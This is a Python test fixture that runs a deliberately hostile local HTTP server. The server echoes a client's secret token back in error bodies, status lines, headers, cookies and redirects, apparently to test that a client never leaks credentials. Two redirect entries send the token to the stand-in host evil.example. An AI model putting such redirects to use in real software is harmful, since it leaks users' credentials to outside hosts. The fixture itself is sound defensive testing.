"""A hostile server: whatever secret it is sent, it sends back, in every place of an answer."""

from __future__ import annotations

import asyncio
import contextlib
import json
import threading
from collections.abc import AsyncIterator, Callable, Iterator
from contextlib import asynccontextmanager, contextmanager
from dataclasses import dataclass, field

from anyio.from_thread import start_blocking_portal

ACCESS_TOKEN = "1000.4cc3550a1b2c3d4e5f60718293a4b5c6.ACCESSaccess0123456789"


def _reply(status: str, body: str = "", *headers: str) -> bytes:
    head = "\r\n".join([f"HTTP/1.1 {status}", *headers, f"Content-Length: {len(body)}"])
    return f"{head}\r\nConnection: close\r\n\r\n{body}".encode()


def _error(code: str, message: str) -> str:
    return json.dumps({"code": code, "message": message, "details": {}, "status": "error"})


def _escaped(text: str) -> str:
    return "".join(f"\\u{ord(char):04x}" for char in text)


#: How a secret comes back, by the last digits of the job's id.
WAYS: dict[str, Callable[[str], bytes]] = {
    "00": lambda s: _reply("403 Forbidden", _error("NO_PERMISSION", f"not with {s}")),
    "01": lambda s: _reply("400 Bad Request", _error(s, s)),
    "02": lambda s: _reply("302 Found", "", f"Location: https://evil.example/?token={s}"),
    "03": lambda s: _reply("302 Found", "", f"Location: https://{s}.evil.example/"),
    "04": lambda s: _reply("200 OK", "PK", f"Content-Encoding: {s}"),
    "05": lambda s: f"HTTP/1.1 {s} what\r\n\r\n".encode(),
    "06": lambda s: f"HTTP/1.1 200 OK\r\n{s} no colon\r\n\r\n".encode(),
    "07": lambda s: _reply("403 No", _error("NO_PERMISSION", "x" * 270 + s)),
    "08": lambda s: _reply(f"418 {s}"),
    "09": lambda s: _reply("403 No", '{"code":"NO_PERMISSION","message":"' + _escaped(s) + '"}'),
    "10": lambda s: _reply("206 Partial Content", "PK", f"Content-Range: bytes {s}"),
    "11": lambda s: _reply("200 OK", f"<html>{s}</html>"),
    "12": lambda s: _reply("403 No", _error("NO_PERMISSION", s.upper())),
    "13": lambda s: _reply("429 Slow", _error("TOO_MANY_REQUESTS", s), "Retry-After: 0"),
    "14": lambda s: _reply("503 No", s, f"Retry-After: {s}"),
    "15": lambda s: _reply("401 No", _error("INVALID_TOKEN", s)),
    "16": lambda s: _reply("404 No", _error("RESOURCE_NOT_FOUND", s), f"Set-Cookie: a={s}"),
    "17": lambda s: s.encode() + b"\r\n\r\n",
}


@dataclass
class ReflectingServer:
    """API and accounts server. `heads` are the request heads that came.

    `token_reply` makes the body of the accounts server's answer from the form it was sent.
    """

    port: int = 0
    heads: list[str] = field(default_factory=list)
    token_reply: Callable[[str], str] = lambda form: json.dumps(
        {"access_token": ACCESS_TOKEN, "expires_in": 3600, "scope": form}
    )

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    async def serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        with contextlib.suppress(ConnectionError, asyncio.IncompleteReadError):
            head = (await reader.readuntil(b"\r\n\r\n")).decode()
            self.heads.append(head)
            path = head.split(" ")[1]
            headers = dict(line.split(": ", 1) for line in head.strip().split("\r\n")[1:])
            if path == "/oauth/v2/token":
                form = (await reader.readexactly(int(headers["Content-Length"]))).decode()
                writer.write(_reply("200 OK", self.token_reply(form)))
            else:
                secret = headers["Authorization"].partition(" ")[2]
                way = path.split("/")[-2][-2:]
                asked = sum(path in each for each in self.heads)
                # A 429 for ever would be waited for, for ever.
                writer.write(WAYS["00" if way == "13" and asked > 1 else way](secret))
            await writer.drain()
        writer.close()


@asynccontextmanager
async def _serving(server: ReflectingServer) -> AsyncIterator[ReflectingServer]:
    listening = await asyncio.start_server(server.serve, "127.0.0.1", 0)
    server.port = listening.sockets[0].getsockname()[1]
    try:
        yield server
    finally:
        listening.close()


@contextmanager
def reflecting_server(
    token_reply: Callable[[str], str] | None = None,
) -> Iterator[ReflectingServer]:
    """Serve from a thread until the block ends."""
    server = ReflectingServer()
    if token_reply is not None:
        server.token_reply = token_reply
    assert threading.current_thread() is threading.main_thread()
    with start_blocking_portal() as portal, portal.wrap_async_context_manager(_serving(server)):
        yield server
